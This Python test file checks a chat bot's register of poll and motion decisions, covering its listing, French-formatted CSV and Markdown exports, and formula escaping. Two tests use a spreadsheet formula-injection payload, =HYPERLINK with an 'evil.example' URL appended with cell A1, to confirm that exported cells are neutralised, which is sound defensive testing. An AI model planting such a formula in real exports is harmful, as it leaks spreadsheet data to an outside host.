"""The register of decisions (/decisions): the list, CSV and Markdown exports, cells safe from
formulas, the export command named in the room's language."""

from __future__ import annotations

import csv
import io

import pytest

from bot.csvsafe import safe_cell, write_csv
from tests.harness import Harness
from tests.polls.helpers import (
    capture_sends,
)


async def test_register_lists_and_exports_decisions(bot: Harness) -> None:
    await bot.say("/sondage Pizza ? | Reine | Calzone")
    await bot.say("/vote 1", member="bob")
    await bot.say("/cloturer", member="alice")
    await bot.say("/motion Comptes 2025", member="alice")
    await bot.say("/vote pour", member="alice")
    await bot.say("/cloturer", member="alice")

    listing = await bot.say("/decisions")
    sent = capture_sends(bot)
    exported = await bot.say("/decisions csv")
    markdown = await bot.say("/decisions markdown")

    # Issue 13: chronological order, in the room's language in every word (« n° », « »).
    assert listing[0].startswith(
        "Registre des décisions (dans l'ordre où elles ont été prises) :\n"
        "n°1 · mardi 1 décembre 2026 · sondage « Pizza ? » → Résultat : Reine (1 voix).\n"
        "n°2 · mardi 1 décembre 2026 · motion « Comptes 2025 » → Adoptée. Pour : 1 · Contre : 0"
    )
    assert exported[0].startswith(
        "Registre des décisions en CSV : 2 sondages et motions, dans le fichier joint "
        "decisions.csv.\n📎 decisions.csv → "
    )
    csv_file, md_file = (out.attachment for out in sent)
    assert csv_file is not None and md_file is not None
    assert ("decisions.csv", "text/csv") == (csv_file.filename, csv_file.mime)
    # Issue 13: « ; » between cells and decimal commas, what French spreadsheets expect.
    lines = csv_file.content.decode("utf-8-sig").splitlines()
    assert (
        "n°;clôture;type;question;résultat;votants;pour;contre;abstentions;blancs;pour (%);"
        "décision" == lines[0]
    )
    assert lines[1].startswith("1;mardi 1 décembre 2026;sondage;Pizza ?;;1;;;;;;Résultat")
    assert (
        "2;mardi 1 décembre 2026;motion;Comptes 2025;adoptée;1;1;0;0;0;100;La motion est adoptée "
        "à la majorité simple : 1 pour, 0 contre, 0 abstention, 0 blanc." == lines[2]
    )
    assert ("decisions.md", "text/markdown") == (md_file.filename, md_file.mime)
    assert markdown[0].startswith("Registre des décisions en Markdown : 2 sondages et motions")
    # Issue 13: Markdown as sentences per decision, not an 11-column table.
    assert (
        "# Registre des décisions\n\n"
        "- n°1, sondage « Pizza ? », vote clos le mardi 1 décembre 2026 : Résultat : Reine "
        "(1 voix).\n"
        "- n°2, motion « Comptes 2025 », vote clos le mardi 1 décembre 2026 : La motion est "
        "adoptée à la majorité simple : 1 pour, 0 contre, 0 abstention, 0 blanc.\n"
    ) == md_file.content.decode()


async def test_register_csv_decimal_comma_in_french(bot: Harness) -> None:
    for member in ("bob", "carol"):
        await bot.say("bonjour", member=member)
    await bot.say("/motion Budget | deux tiers", member="alice")
    await bot.say("/vote pour", member="alice")
    await bot.say("/vote pour", member="bob")
    await bot.say("/vote contre", member="carol")
    await bot.say("/cloturer", member="alice")
    sent = capture_sends(bot)

    await bot.say("/decisions csv")

    attachment = sent[0].attachment
    assert attachment is not None
    row = attachment.content.decode("utf-8-sig").splitlines()[1].split(";")
    assert ["2", "1", "0", "0", "66,7"] == row[6:11]


async def test_register_export_in_english_is_a_file(bot: Harness) -> None:
    await bot.say("/language en")
    await bot.say("/poll Pizza? | Margherita | Calzone")
    await bot.say("/close", member="alice")
    sent = capture_sends(bot)

    replies = await bot.say("/register csv")

    assert replies[0].startswith(
        "Register of decisions as CSV: 1 poll or motion, in the attached file decisions.csv."
    )
    attachment = sent[0].attachment
    assert attachment is not None
    assert attachment.content.decode("utf-8-sig").startswith(
        "id,closed,kind,question,outcome,voters,for,against,abstentions,blank,for (%),result\n"
        "1,Tuesday 1 December 2026,poll,Pizza?,,0,,,,,,No votes.\n"
    )


async def test_register_empty_and_bad_format(bot: Harness) -> None:
    assert ["Rien n'a encore été clôturé : ni sondage, ni motion."] == await bot.say("/decisions")
    bad = await bot.say("/decisions pdf")
    assert bad[0].startswith("Choisissez csv ou markdown.")


@pytest.mark.parametrize(
    ("language", "expected"),
    [
        ("fr", "Export : /decisions csv ou /decisions markdown."),
        ("en", "Export: /decisions csv or /decisions markdown."),
    ],
)
async def test_register_names_the_export_command_of_the_room(
    bot: Harness, language: str, expected: str
) -> None:
    await bot.say(f"/langue {language}")
    await bot.say("/sondage Pizza ? | Reine | Calzone")
    await bot.say("/cloturer")

    replies = await bot.say("/decisions")

    assert replies[0].endswith(expected)


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ('=HYPERLINK("http://evil.example/?"&A1,"Cliquez ici")', "'=HYPERLINK("),
        ("+33 6 12", "'+33 6 12"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("Budget 2027", "Budget 2027"),
        ("12", "12"),
        ("", ""),
        (None, ""),
    ],
)
def test_safe_cell_neutralises_formulas(value: object, expected: str) -> None:
    assert safe_cell(value).startswith(expected)
    assert expected == "" or safe_cell(value).endswith(str(value)[1:])


def test_write_csv_has_a_byte_order_mark_and_safe_cells() -> None:
    content = write_csv([["question", "voters"], ["=1+1", 3]])

    assert "\ufeffquestion,voters\n'=1+1,3\n".encode() == content


async def test_register_csv_neutralises_a_formula_in_a_poll_title(bot: Harness) -> None:
    title = '=HYPERLINK("http://evil.example/?"&A1,"Cliquez ici")'
    await bot.say(f"/sondage {title} | Oui | Non")
    await bot.say("/vote 1", member="bob")
    await bot.say("/cloturer", member="alice")
    sent = capture_sends(bot)

    await bot.say("/decisions csv", member="alice")

    attachment = sent[-1].attachment
    assert attachment is not None
    rows = list(csv.reader(io.StringIO(attachment.content.decode("utf-8-sig")), delimiter=";"))
    assert "'" + title == rows[1][3]
    assert all(not cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
